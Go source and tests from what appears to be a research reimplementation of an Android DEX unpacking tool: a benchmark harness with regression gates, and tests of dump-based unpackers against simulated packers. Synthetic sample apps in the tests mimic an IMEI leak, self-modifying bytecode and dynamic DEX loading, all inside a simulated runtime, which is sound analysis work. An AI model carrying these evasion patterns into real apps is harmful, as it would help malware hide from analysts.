	// acceptance gate tracks (>= 3x).
	StageRevealChain = "reveal-chain"
	StageRevealIncr  = "reveal-incr"
)

// gateFarmGates sizes the force-execution benchmark body: that many
// independent never-taken branches, each becoming one forced run in the
// campaign's first iteration — an embarrassingly parallel worklist.
const gateFarmGates = 16

// chainMethods sizes the version-chain benchmark app: that many worker
// methods, each with its own never-taken gate, so a cold forced reveal pays
// one forced run per worker while the warm incremental reveal re-executes
// only the single mutated link.
const chainMethods = 32

// app is one prepared corpus entry with every stage input precomputed, so a
// stage benchmark measures exactly that stage.
type app struct {
	sample    *droidbench.Sample
	pkg       *apk.APK
	dexBytes  []byte            // input of decode
	collected *collector.Result // input of reassembly
	file      *dex.File         // input of encode
	encoded   []byte            // input of verify
}

// Config parameterizes a harness run.
type Config struct {
	// BenchTime is the minimum measuring time per stage (default 1s).
	BenchTime time.Duration
	// MinIters is the minimum op count per stage regardless of BenchTime
	// (default 3).
	MinIters int
	// Workers is the reassembly parallelism handed to the reassembler
	// (0 = GOMAXPROCS, 1 = serial).
	Workers int
	// Tracer, when set, receives one "stage.<name>" span per measured
	// stage; its snapshot is embedded in the report.
	Tracer *obs.Tracer
}

func (c Config) benchTime() time.Duration {
	if c.BenchTime <= 0 {
		return time.Second
	}
	return c.BenchTime
}

func (c Config) minIters() int {
	if c.MinIters <= 0 {
		return 3
	}
	return c.MinIters
}

// loadCorpus builds the pinned corpus and precomputes every stage input.
func loadCorpus(workers int) ([]*app, error) {
	apps := make([]*app, 0, len(CorpusNames))
	for _, name := range CorpusNames {
		s := droidbench.ByName(name)
		if s == nil {
			return nil, fmt.Errorf("hotbench: corpus sample %q does not exist", name)
		}
		pkg, err := s.Build()
		if err != nil {
			return nil, err
		}
		data, err := pkg.Dex()
		if err != nil {
			return nil, err
		}
		a := &app{sample: s, pkg: pkg, dexBytes: data}
		if a.collected, err = collect(a); err != nil {
			return nil, fmt.Errorf("hotbench: collect %s: %w", name, err)
		}
		f, _, err := reassembler.ReassembleCfg(a.collected, nil,
			reassembler.Config{Workers: workers})
		if err != nil {
			return nil, fmt.Errorf("hotbench: reassemble %s: %w", name, err)
		}
		a.file = f
		if a.encoded, err = f.Write(); err != nil {
			return nil, fmt.Errorf("hotbench: encode %s: %w", name, err)
		}
		apps = append(apps, a)
	}
	return apps, nil
}

// gateFarm builds the force-execution benchmark app: gateFarmGates
// independent branches the launch never takes, each guarding a short block.
// Every gate is one UCB, so one campaign schedules gateFarmGates forced
// runs in its first iteration.
func gateFarm() (*apk.APK, []*dex.File, error) {
	p := dexgen.New()
	main := p.Class("Lbench/Gates;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		for i := 0; i < gateFarmGates; i++ {
			gate := fmt.Sprintf("gate%d", i)
			after := fmt.Sprintf("after%d", i)
			a.Const(0, 0)
			a.IfZ(bytecode.OpIfNez, 0, gate) // never taken naturally
			a.Goto(after)
			a.Label(gate)
			a.Const(1, int64(i))
			a.Const(2, 3)
			a.Binop(bytecode.OpAddInt, 3, 1, 2)
			a.Label(after)
			a.Nop()
		}
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("bench.gates", "1.0", "Lbench/Gates;")
	if err != nil {
		return nil, nil, err
	}
	data, err := pkg.Dex()
	if err != nil {
		return nil, nil, err
	}
	f, err := dex.Read(data)
	if err != nil {
		return nil, nil, err
	}
	return pkg, []*dex.File{f}, nil
}

// chainBench prepares the incremental benchmark: the 1-mutation version
// chain (v1, v2) and a method cache warmed by one incremental reveal of v1.
// Warming is setup, not measurement. After the first measured op v2's own
// fresh methods are resident too, so steady-state ops splice every method —
// the intended hot case of a service revealing successive app versions.
func chainBench(workers int) (*apk.APK, *store.MethodCache, error) {
	chain, err := workload.VersionChain(workload.ChainConfig{
		Methods: chainMethods, Links: 1, Seed: 11,
	})
	if err != nil {
		return nil, nil, err
	}
	mc, err := store.OpenMethodCache("", 0)
	if err != nil {
		return nil, nil, err
	}
	if _, err := root.Reveal(chain[0].APK, root.Options{
		ForceExecution: true,
		Workers:        workers,
		Incremental:    true,
		MethodCache:    mc,
	}); err != nil {
		return nil, nil, err
	}
	return chain[1].APK, mc, nil
}

// collect runs one JIT-collection pass (the collection stage body).
func collect(a *app) (*collector.Result, error) {
	col := collector.New()
	rt := art.NewRuntime(art.DefaultPhone())
	a.sample.InstallNatives(rt)
	rt.AddHooks(col.Hooks())
	if err := rt.LoadAPK(a.pkg); err != nil {
		return nil, err
	}
	_ = root.DefaultDriver(rt) // app-level failures do not abort collection
	return col.Result(), nil
}

// measure runs op in a loop for at least benchTime and minIters ops and
// returns per-op wall time and allocation figures. The first call warms
// caches and is not measured, mirroring testing.B steady-state semantics.
func measure(benchTime time.Duration, minIters int, op func() error) (StageBench, error) {
	if err := op(); err != nil {
		return StageBench{}, err
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	// The accountant's ticker observes live-heap residency while ops run,
	// catching mid-stage balloons the boundary MemStats reads never see.
	acct := pipeline.NewResourceAccountant()
	stopSampling := acct.StartSampling(5 * time.Millisecond)
	start := time.Now()
	n := 0
	for time.Since(start) < benchTime || n < minIters {
		if err := op(); err != nil {
			stopSampling()
			return StageBench{}, err
		}
		n++
	}
	elapsed := time.Since(start)
	stopSampling()
	runtime.ReadMemStats(&after)
	return StageBench{
		NsPerOp:       elapsed.Nanoseconds() / int64(n),
		BytesPerOp:    int64(after.TotalAlloc-before.TotalAlloc) / int64(n),
		AllocsPerOp:   int64(after.Mallocs-before.Mallocs) / int64(n),
		Iterations:    n,
		HeapPeakBytes: acct.Finish(0, 0).HeapPeakBytes,
	}, nil
}

// forceOp runs one full force-execution campaign over the gate farm — the
// body of the forceexec stages.
func forceOp(pkg *apk.APK, files []*dex.File, workers int) func() error {
	return func() error {
		tracker, err := coverage.NewTracker(files)
		if err != nil {
			return err
		}
		eng := forceexec.New(pkg, files)
		eng.Workers = workers
		eng.Collector = collector.New()
		if _, err := eng.Run(tracker); err != nil {
			return err
		}
		if left := len(tracker.UncoveredBranches()); left != 0 {
			return fmt.Errorf("gate farm left %d UCBs uncovered", left)
		}
		return nil
	}
}

// Run loads the pinned corpus and measures every stage of the hot path.
func Run(cfg Config) (*Report, error) {
	apps, err := loadCorpus(cfg.Workers)
	if err != nil {
		return nil, err
	}
	gfPkg, gfFiles, err := gateFarm()
	if err != nil {
		return nil, fmt.Errorf("hotbench: gate farm: %w", err)
	}
	chainV2, chainCache, err := chainBench(cfg.Workers)
	if err != nil {
		return nil, fmt.Errorf("hotbench: version chain: %w", err)
	}
	rep := &Report{
		Schema:      Schema,
		Corpus:      append([]string(nil), CorpusNames...),
		GoMaxProcs:  runtime.GOMAXPROCS(0),
		Workers:     cfg.Workers,
		BenchTimeNS: int64(cfg.benchTime()),
	}
	tr := cfg.Tracer
	benchRoot := tr.Start("bench", "hotbench")
	defer benchRoot.End()

	stages := []struct {
		name string
		op   func() error
	}{
		{StageDecode, func() error {
			for _, a := range apps {
				if _, err := dex.Read(a.dexBytes); err != nil {
					return err
				}
			}
			return nil
		}},
		{StageCollection, func() error {
			for _, a := range apps {
				if _, err := collect(a); err != nil {
					return err
				}
			}
			return nil
		}},
		{StageReassembly, func() error {
			for _, a := range apps {
				if _, _, err := reassembler.ReassembleCfg(a.collected, nil,
					reassembler.Config{Workers: cfg.Workers}); err != nil {
					return err
				}
			}
			return nil
		}},
		{StageEncode, func() error {
			for _, a := range apps {
				if _, err := a.file.Write(); err != nil {
					return err
				}
			}
			return nil
		}},
		{StageVerify, func() error {
			for _, a := range apps {
				f, err := dex.ReadShared(a.encoded)
				if err != nil {
					return err
				}
				if errs := dex.Verify(f); len(errs) > 0 {
					return errs[0]
				}
			}
			return nil
		}},
		{StageReveal, func() error {
			for _, a := range apps {
				if _, err := root.Reveal(a.pkg, root.Options{
					Natives: a.sample.Natives(),
					Workers: cfg.Workers,
				}); err != nil {
					return err
				}
			}
			return nil
		}},
		{StageForceExec, forceOp(gfPkg, gfFiles, cfg.Workers)},
		{StageForceExecW1, forceOp(gfPkg, gfFiles, 1)},
		{StageRevealChain, func() error {
			_, err := root.Reveal(chainV2, root.Options{
				ForceExecution: true,
				Workers:        cfg.Workers,
			})
			return err
		}},
		{StageRevealIncr, func() error {
			_, err := root.Reveal(chainV2, root.Options{
				ForceExecution: true,
				Workers:        cfg.Workers,
				Incremental:    true,
				MethodCache:    chainCache,
			})
			return err
		}},
	}
	for _, st := range stages {
		sp := benchRoot.Start("stage." + st.name)
		sb, err := measure(cfg.benchTime(), cfg.minIters(), st.op)
		sp.End()
		if err != nil {
			return nil, fmt.Errorf("hotbench: stage %s: %w", st.name, err)
		}
		sb.Stage = st.name
		rep.Stages = append(rep.Stages, sb)
	}
	benchRoot.End()
	rep.Obs = tr.Snapshot()
	return rep, nil
}
