package hotbench

import (
	"testing"

	"dexlego/internal/reassembler"
)

// BenchmarkReassemblyStage is the reassembly stage body in isolation, for
// profiling the flatten/dexgen/builder hot path with the standard testing
// harness.
func BenchmarkReassemblyStage(b *testing.B) {
	apps, err := loadCorpus(1)
	if err != nil {
		b.Fatal(err)
	}
	for _, a := range apps {
		if a.collected, err = collect(a); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, a := range apps {
			if _, _, err := reassembler.ReassembleCfg(a.collected, nil,
				reassembler.Config{Workers: 1}); err != nil {
				b.Fatal(err)
			}
		}
	}
}
