package hotbench

import (
	"encoding/json"
	"fmt"
	"strings"

	"dexlego/internal/obs"
)

// Schema identifies the report format; bump on incompatible changes.
const Schema = "dexlego/hotbench/v1"

// Default gate tolerances: a candidate fails the gate when a stage regresses
// more than 15% in ns/op, more than 10% in allocs/op, or — on the
// memory-sensitive stages only — more than 15% in B/op against the baseline.
const (
	DefaultNsTolerance     = 0.15
	DefaultAllocsTolerance = 0.10
	DefaultBytesTolerance  = 0.15
)

// StageBench is the steady-state measurement of one hot-path stage, where
// one op is one pass over the whole pinned corpus.
type StageBench struct {
	Stage       string `json:"stage"`
	NsPerOp     int64  `json:"nsPerOp"`
	BytesPerOp  int64  `json:"bytesPerOp"`
	AllocsPerOp int64  `json:"allocsPerOp"`
	Iterations  int    `json:"iterations"`

	// HeapPeakBytes is the largest live-heap growth observed while the
	// stage's measurement loop ran, sampled by a ResourceAccountant ticker.
	// Unlike BytesPerOp (allocation volume) it captures residency — the
	// number a memory budget actually has to cover. Informational, not
	// gated: peak residency depends on GC timing and is too noisy for a
	// hard tolerance.
	HeapPeakBytes int64 `json:"heapPeakBytes,omitempty"`
}

// Report is the machine-readable benchmark output (the BENCH_4.json schema).
type Report struct {
	Schema      string       `json:"schema"`
	Corpus      []string     `json:"corpus"`
	GoMaxProcs  int          `json:"gomaxprocs"`
	Workers     int          `json:"workers"`
	BenchTimeNS int64        `json:"benchTimeNS"`
	Stages      []StageBench `json:"stages"`

	// Obs carries the span histograms of the measured stages when the run
	// was traced; nil otherwise.
	Obs *obs.Snapshot `json:"obs,omitempty"`
}

// Stage returns the named stage measurement, or nil.
func (r *Report) Stage(name string) *StageBench {
	for i := range r.Stages {
		if r.Stages[i].Stage == name {
			return &r.Stages[i]
		}
	}
	return nil
}

// JSON returns the indented JSON encoding of the report.
func (r *Report) JSON() ([]byte, error) { return json.MarshalIndent(r, "", "  ") }

// DecodeReport parses and validates a report produced by Report.JSON.
func DecodeReport(data []byte) (*Report, error) {
	var r Report
	if err := json.Unmarshal(data, &r); err != nil {
		return nil, fmt.Errorf("hotbench: report does not parse: %w", err)
	}
	if r.Schema != Schema {
		return nil, fmt.Errorf("hotbench: report schema %q, want %q", r.Schema, Schema)
	}
	if len(r.Stages) == 0 {
		return nil, fmt.Errorf("hotbench: report has no stages")
	}
	for _, s := range r.Stages {
		if s.Stage == "" || s.Iterations <= 0 || s.NsPerOp < 0 || s.AllocsPerOp < 0 {
			return nil, fmt.Errorf("hotbench: malformed stage entry %+v", s)
		}
	}
	return &r, nil
}

// bytesGated reports whether a stage's B/op is part of the gate. Only the
// memory-bound output stages are held to a bytes tolerance: reassembly and
// encode are where the streaming/pooling work lives and where an allocation
// regression silently undoes it. The decode/collect stages allocate
// proportionally to corpus shape and stay gated on ns/op and allocs/op only.
func bytesGated(stage string) bool {
	return stage == "reassembly" || stage == "encode"
}

// Compare gates cur against base: every stage present in both must not
// regress beyond the tolerances (fractions, e.g. 0.15 = +15%). B/op is
// additionally gated by bytesTol on the stages bytesGated selects. It returns
// one violation string per breach; an empty slice means the gate passes.
// Reports over different corpora are never comparable and fail outright.
func Compare(base, cur *Report, nsTol, allocsTol, bytesTol float64) []string {
	if !equalCorpus(base.Corpus, cur.Corpus) {
		return []string{fmt.Sprintf(
			"corpus mismatch: baseline %v vs current %v (refresh the baseline)",
			base.Corpus, cur.Corpus)}
	}
	var violations []string
	for _, bs := range base.Stages {
		cs := cur.Stage(bs.Stage)
		if cs == nil {
			violations = append(violations,
				fmt.Sprintf("stage %s: present in baseline but missing from current report", bs.Stage))
			continue
		}
		if exceeded(bs.NsPerOp, cs.NsPerOp, nsTol) {
			violations = append(violations, fmt.Sprintf(
				"stage %s: ns/op regressed %.1f%% (%d -> %d, tolerance %.0f%%)",
				bs.Stage, pct(bs.NsPerOp, cs.NsPerOp), bs.NsPerOp, cs.NsPerOp, nsTol*100))
		}
		if exceeded(bs.AllocsPerOp, cs.AllocsPerOp, allocsTol) {
			violations = append(violations, fmt.Sprintf(
				"stage %s: allocs/op regressed %.1f%% (%d -> %d, tolerance %.0f%%)",
				bs.Stage, pct(bs.AllocsPerOp, cs.AllocsPerOp), bs.AllocsPerOp, cs.AllocsPerOp, allocsTol*100))
		}
		if bytesGated(bs.Stage) && exceeded(bs.BytesPerOp, cs.BytesPerOp, bytesTol) {
			violations = append(violations, fmt.Sprintf(
				"stage %s: B/op regressed %.1f%% (%d -> %d, tolerance %.0f%%)",
				bs.Stage, pct(bs.BytesPerOp, cs.BytesPerOp), bs.BytesPerOp, cs.BytesPerOp, bytesTol*100))
		}
	}
	return violations
}

func equalCorpus(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func exceeded(base, cur int64, tol float64) bool {
	if base <= 0 {
		return false // nothing to regress against
	}
	return float64(cur) > float64(base)*(1+tol)
}

func pct(base, cur int64) float64 {
	if base == 0 {
		return 0
	}
	return (float64(cur)/float64(base) - 1) * 100
}

// Delta renders a benchstat-style comparison table of cur against base,
// with the relative change per stage and metric.
func Delta(base, cur *Report) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-12s %15s %15s %8s   %12s %12s %8s\n",
		"stage", "ns/op(old)", "ns/op(new)", "Δ", "allocs(old)", "allocs(new)", "Δ")
	for _, bs := range base.Stages {
		cs := cur.Stage(bs.Stage)
		if cs == nil {
			fmt.Fprintf(&sb, "%-12s (missing from current report)\n", bs.Stage)
			continue
		}
		fmt.Fprintf(&sb, "%-12s %15d %15d %+7.1f%%   %12d %12d %+7.1f%%\n",
			bs.Stage, bs.NsPerOp, cs.NsPerOp, pct(bs.NsPerOp, cs.NsPerOp),
			bs.AllocsPerOp, cs.AllocsPerOp, pct(bs.AllocsPerOp, cs.AllocsPerOp))
	}
	return sb.String()
}

// String renders the report as a compact table.
func (r *Report) String() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "hotbench: corpus of %d apps, GOMAXPROCS=%d, workers=%d\n",
		len(r.Corpus), r.GoMaxProcs, r.Workers)
	fmt.Fprintf(&sb, "%-12s %15s %15s %12s %6s\n", "stage", "ns/op", "B/op", "allocs/op", "ops")
	for _, s := range r.Stages {
		fmt.Fprintf(&sb, "%-12s %15d %15d %12d %6d\n",
			s.Stage, s.NsPerOp, s.BytesPerOp, s.AllocsPerOp, s.Iterations)
	}
	return sb.String()
}
