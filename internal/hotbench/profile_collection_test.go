package hotbench

import "testing"

// BenchmarkCollectionStage is the collection stage body in isolation, for
// profiling the interpreter hot path with the standard testing harness.
func BenchmarkCollectionStage(b *testing.B) {
	apps, err := loadCorpus(1)
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, a := range apps {
			if _, err := collect(a); err != nil {
				b.Fatal(err)
			}
		}
	}
}
