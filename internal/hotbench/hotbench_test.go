package hotbench

import (
	"bytes"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	root "dexlego"
	"dexlego/internal/droidbench"
)

// TestSerialParallelByteIdentical is the golden test for the parallel
// reassembly path: for every corpus sample, revealing with Workers: 1
// (forced serial), Workers: 4 and Workers: 0 (GOMAXPROCS) must produce
// byte-identical DEX output. Run under -race in CI, this also exercises the
// worker pool for data races on the shared Builder.
func TestSerialParallelByteIdentical(t *testing.T) {
	for _, name := range CorpusNames {
		t.Run(name, func(t *testing.T) {
			s := droidbench.ByName(name)
			if s == nil {
				t.Fatalf("corpus sample %q does not exist", name)
			}
			reveal := func(workers int) []byte {
				pkg, err := s.Build()
				if err != nil {
					t.Fatalf("build: %v", err)
				}
				res, err := root.Reveal(pkg, root.Options{
					Natives: s.Natives(),
					Workers: workers,
				})
				if err != nil {
					t.Fatalf("reveal (workers=%d): %v", workers, err)
				}
				data, err := res.Revealed.Dex()
				if err != nil {
					t.Fatalf("dex (workers=%d): %v", workers, err)
				}
				return data
			}
			serial := reveal(1)
			for _, workers := range []int{4, 0} {
				if got := reveal(workers); !bytes.Equal(serial, got) {
					t.Errorf("workers=%d output differs from serial: %d vs %d bytes",
						workers, len(got), len(serial))
				}
			}
		})
	}
}

// TestRunEmitsAllStages runs the harness with a minimal budget and checks
// the report carries every stage with sane figures and survives a JSON
// round trip.
func TestRunEmitsAllStages(t *testing.T) {
	if testing.Short() {
		t.Skip("harness run is slow under -short")
	}
	rep, err := Run(Config{BenchTime: time.Millisecond, MinIters: 1, Workers: 1})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	want := []string{StageDecode, StageCollection, StageReassembly, StageEncode, StageVerify,
		StageReveal, StageForceExec, StageForceExecW1, StageRevealChain, StageRevealIncr}
	if len(rep.Stages) != len(want) {
		t.Fatalf("got %d stages, want %d", len(rep.Stages), len(want))
	}
	for i, name := range want {
		sb := rep.Stages[i]
		if sb.Stage != name {
			t.Errorf("stage[%d] = %q, want %q", i, sb.Stage, name)
		}
		if sb.NsPerOp <= 0 || sb.AllocsPerOp <= 0 || sb.Iterations < 1 {
			t.Errorf("stage %s has degenerate figures: %+v", name, sb)
		}
	}
	data, err := rep.JSON()
	if err != nil {
		t.Fatalf("JSON: %v", err)
	}
	back, err := DecodeReport(data)
	if err != nil {
		t.Fatalf("DecodeReport: %v", err)
	}
	if len(back.Stages) != len(rep.Stages) || back.Schema != Schema {
		t.Fatalf("round trip lost data: %+v", back)
	}
	if msgs := Compare(back, rep, DefaultNsTolerance, DefaultAllocsTolerance, DefaultBytesTolerance); len(msgs) != 0 {
		t.Fatalf("self-compare flagged regressions: %v", msgs)
	}
}

// TestCompareFlagsRegressions checks the gate arithmetic: ns/op beyond the
// ns tolerance and allocs/op beyond the allocs tolerance each produce a
// violation, and a corpus mismatch refuses the comparison outright.
func TestCompareFlagsRegressions(t *testing.T) {
	base := &Report{
		Schema: Schema,
		Corpus: []string{"A", "B"},
		Stages: []StageBench{{Stage: StageReveal, NsPerOp: 1000, BytesPerOp: 500, AllocsPerOp: 100, Iterations: 5}},
	}
	ok := &Report{
		Schema: Schema,
		Corpus: []string{"A", "B"},
		Stages: []StageBench{{Stage: StageReveal, NsPerOp: 1100, BytesPerOp: 520, AllocsPerOp: 105, Iterations: 5}},
	}
	if msgs := Compare(base, ok, DefaultNsTolerance, DefaultAllocsTolerance, DefaultBytesTolerance); len(msgs) != 0 {
		t.Fatalf("within-tolerance run flagged: %v", msgs)
	}
	slow := &Report{
		Schema: Schema,
		Corpus: []string{"A", "B"},
		Stages: []StageBench{{Stage: StageReveal, NsPerOp: 1200, BytesPerOp: 500, AllocsPerOp: 100, Iterations: 5}},
	}
	if msgs := Compare(base, slow, DefaultNsTolerance, DefaultAllocsTolerance, DefaultBytesTolerance); len(msgs) != 1 {
		t.Fatalf("ns/op regression not flagged exactly once: %v", msgs)
	}
	leaky := &Report{
		Schema: Schema,
		Corpus: []string{"A", "B"},
		Stages: []StageBench{{Stage: StageReveal, NsPerOp: 1000, BytesPerOp: 500, AllocsPerOp: 120, Iterations: 5}},
	}
	if msgs := Compare(base, leaky, DefaultNsTolerance, DefaultAllocsTolerance, DefaultBytesTolerance); len(msgs) != 1 {
		t.Fatalf("allocs/op regression not flagged exactly once: %v", msgs)
	}
	otherCorpus := &Report{
		Schema: Schema,
		Corpus: []string{"A", "C"},
		Stages: base.Stages,
	}
	if msgs := Compare(base, otherCorpus, DefaultNsTolerance, DefaultAllocsTolerance, DefaultBytesTolerance); len(msgs) == 0 {
		t.Fatal("corpus mismatch not refused")
	}
}

// TestForcedRevealByteIdenticalAcrossWorkers is the acceptance spine of
// parallel intra-reveal collection: a force-execution reveal over the full
// corpus must produce byte-identical DEX output at every worker count. The
// DEXLEGO_GOLDEN_WORKERS env var (comma-separated counts) narrows the
// matrix for CI legs; the default exercises 1, 2, 4 and GOMAXPROCS.
func TestForcedRevealByteIdenticalAcrossWorkers(t *testing.T) {
	if testing.Short() {
		t.Skip("forced reveals are slow under -short")
	}
	counts := []int{1, 2, 4, 0}
	if env := os.Getenv("DEXLEGO_GOLDEN_WORKERS"); env != "" {
		counts = nil
		for _, field := range strings.Split(env, ",") {
			n, err := strconv.Atoi(strings.TrimSpace(field))
			if err != nil {
				t.Fatalf("DEXLEGO_GOLDEN_WORKERS %q: %v", env, err)
			}
			counts = append(counts, n)
		}
	}
	for _, name := range CorpusNames {
		t.Run(name, func(t *testing.T) {
			s := droidbench.ByName(name)
			if s == nil {
				t.Fatalf("corpus sample %q does not exist", name)
			}
			reveal := func(workers int) []byte {
				pkg, err := s.Build()
				if err != nil {
					t.Fatalf("build: %v", err)
				}
				res, err := root.Reveal(pkg, root.Options{
					Natives:        s.Natives(),
					ForceExecution: true,
					Workers:        workers,
				})
				if err != nil {
					t.Fatalf("forced reveal (workers=%d): %v", workers, err)
				}
				if res.Coverage == nil {
					t.Fatalf("forced reveal (workers=%d) reported no coverage", workers)
				}
				data, err := res.Revealed.Dex()
				if err != nil {
					t.Fatalf("dex (workers=%d): %v", workers, err)
				}
				return data
			}
			serial := reveal(1)
			for _, workers := range counts {
				if workers == 1 {
					continue // the baseline itself
				}
				if got := reveal(workers); !bytes.Equal(serial, got) {
					t.Errorf("workers=%d forced output differs from serial: %d vs %d bytes",
						workers, len(got), len(serial))
				}
			}
		})
	}
}
