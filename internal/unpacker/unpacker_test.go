package unpacker_test

import (
	"testing"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/packer"
	"dexlego/internal/unpacker"
)

func buildVictim(t *testing.T) *apk.APK {
	t.Helper()
	p := dexgen.New()
	main := p.Class("Lvic/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("vic", 0, 2)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("vic", "1.0", "Lvic/Main;")
	if err != nil {
		t.Fatal(err)
	}
	return pkg
}

func findDumpedClass(files []*dex.File, desc string) *dex.File {
	for _, f := range files {
		if f.FindClass(desc) != nil {
			return f
		}
	}
	return nil
}

func TestDexHunterRecoversWholeDexPackers(t *testing.T) {
	for _, name := range []string{"360", "Alibaba", "Baidu"} {
		t.Run(name, func(t *testing.T) {
			pk, err := packer.ByName(name)
			if err != nil {
				t.Fatal(err)
			}
			packed, err := pk.Pack(buildVictim(t))
			if err != nil {
				t.Fatal(err)
			}
			files, err := unpacker.DexHunter().Unpack(packed, pk.InstallNatives, nil)
			if err != nil {
				t.Fatal(err)
			}
			f := findDumpedClass(files, "Lvic/Main;")
			if f == nil {
				t.Fatal("dump does not contain the original class")
			}
			em := f.FindMethod("Lvic/Main;", "onCreate", "(Landroid/os/Bundle;)V")
			if em == nil || em.Code == nil || len(em.Code.Insns) < 6 {
				t.Fatal("dumped onCreate has no recovered body")
			}
		})
	}
}

func TestDumperDefeatedByBangcle(t *testing.T) {
	pk, err := packer.ByName("Bangcle")
	if err != nil {
		t.Fatal(err)
	}
	packed, err := pk.Pack(buildVictim(t))
	if err != nil {
		t.Fatal(err)
	}
	files, err := unpacker.AppSpear().Unpack(packed, pk.InstallNatives, nil)
	if err != nil {
		t.Fatal(err)
	}
	f := findDumpedClass(files, "Lvic/Main;")
	if f == nil {
		t.Fatal("structure should still be visible")
	}
	em := f.FindMethod("Lvic/Main;", "onCreate", "(Landroid/os/Bundle;)V")
	if em == nil {
		t.Fatal("onCreate missing")
	}
	if len(em.Code.Insns) > 2 {
		t.Errorf("dump recovered %d units; Bangcle should have re-scrambled them", len(em.Code.Insns))
	}
}

// TestDumperMissesSelfModifyingFlow shows the method-level blindness: the
// dump contains only the final (restored) state of the tampered method.
func TestDumperMissesSelfModifyingFlow(t *testing.T) {
	p := dexgen.New()
	main := p.Class("Lsm/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Native("tamper", "V")
	main.Virtual("mark", "V", nil, func(a *dexgen.Asm) { a.ReturnVoid() })
	main.Virtual("evil", "V", nil, func(a *dexgen.Asm) { a.ReturnVoid() })
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.Label("site")
		a.InvokeVirtual("Lsm/Main;", "mark", "()V", a.This())
		a.InvokeVirtual("Lsm/Main;", "tamper", "()V", a.This())
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("sm", "1.0", "Lsm/Main;")
	if err != nil {
		t.Fatal(err)
	}
	// The tamper native swaps the already-executed mark() call for evil():
	// the live array afterwards shows evil(), but it never ran.
	install := func(rt *art.Runtime) {
		rt.RegisterNative("Lsm/Main;->tamper()V",
			func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
				return art.Value{}, env.TamperMethod("Lsm/Main;", "onCreate",
					func(insns []uint16) []uint16 {
						f := env.Runtime().LoadedDexes()[0]
						for pc := 0; pc < len(insns); {
							in, w, err := bytecode.Decode(insns, pc)
							if err != nil {
								return nil
							}
							if in.Op == bytecode.OpInvokeVirtual &&
								f.MethodAt(in.Index).Name == "mark" {
								for mi := range f.Methods {
									if f.MethodAt(uint32(mi)).Name == "evil" {
										insns[pc+1] = uint16(mi)
									}
								}
								return nil
							}
							pc += w
						}
						return nil
					})
			})
	}
	files, err := unpacker.DexHunter().Unpack(pkg, install, nil)
	if err != nil {
		t.Fatal(err)
	}
	f := findDumpedClass(files, "Lsm/Main;")
	em := f.FindMethod("Lsm/Main;", "onCreate", "(Landroid/os/Bundle;)V")
	placed, err := bytecode.DecodeAll(em.Code.Insns)
	if err != nil {
		t.Fatal(err)
	}
	sawMark, sawEvil := false, false
	for _, pl := range placed {
		if !pl.Inst.Op.IsInvoke() {
			continue
		}
		switch f.MethodAt(pl.Inst.Index).Name {
		case "mark":
			sawMark = true
		case "evil":
			sawEvil = true
		}
	}
	// The dump holds exactly one state: the post-modification one. The
	// executed mark() call is gone — the method-level blind spot.
	if sawMark || !sawEvil {
		t.Errorf("dump state: mark=%v evil=%v; want only the tampered state", sawMark, sawEvil)
	}
}

func TestDumpCapturesDynamicallyLoadedDex(t *testing.T) {
	payload := dexgen.New()
	payload.Class("Ldynp/P;", "").Static("f", "I", nil, func(a *dexgen.Asm) {
		a.Const(0, 5)
		a.Return(0)
	})
	payloadBytes, err := payload.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	p := dexgen.New()
	host := p.Class("Ldynh/Main;", "Landroid/app/Activity;")
	host.Ctor("Landroid/app/Activity;", nil)
	host.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.NewInstance(0, "Ldalvik/system/DexClassLoader;")
		a.ConstString(1, "p.dex")
		a.InvokeDirect("Ldalvik/system/DexClassLoader;", "<init>", "(Ljava/lang/String;)V", 0, 1)
		a.InvokeStatic("Ldynp/P;", "f", "()I")
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("dynh", "1.0", "Ldynh/Main;")
	if err != nil {
		t.Fatal(err)
	}
	pkg.AddAsset("p.dex", payloadBytes)
	files, err := unpacker.DexHunter().Unpack(pkg, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(files) < 2 {
		t.Fatalf("dumped %d dex files, want host + dynamically loaded payload", len(files))
	}
	if findDumpedClass(files, "Ldynp/P;") == nil {
		t.Error("dynamically loaded class not captured by the dump")
	}
}
