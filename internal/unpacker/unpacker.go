// Package unpacker implements the paper's comparison baselines DexHunter
// and AppSpear: dump-based, method-level unpackers. Both run the packed
// application and, at the "right timing" (after the app's launch flow has
// completed class loading and initialization), dump every DEX file the
// class linker has seen, with each method's *current* in-memory instruction
// array.
//
// That design recovers whole-DEX packers perfectly and even captures
// dynamically loaded DEX files, but it is blind to self-modifying code — a
// method's array is either the pre- or post-modification version at any
// single dump instant — and it cannot touch reflection. Those blind spots
// are exactly the deltas of the paper's Table III.
package unpacker

import (
	"fmt"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/dex"
)

// Unpacker is a dump-based unpacking system.
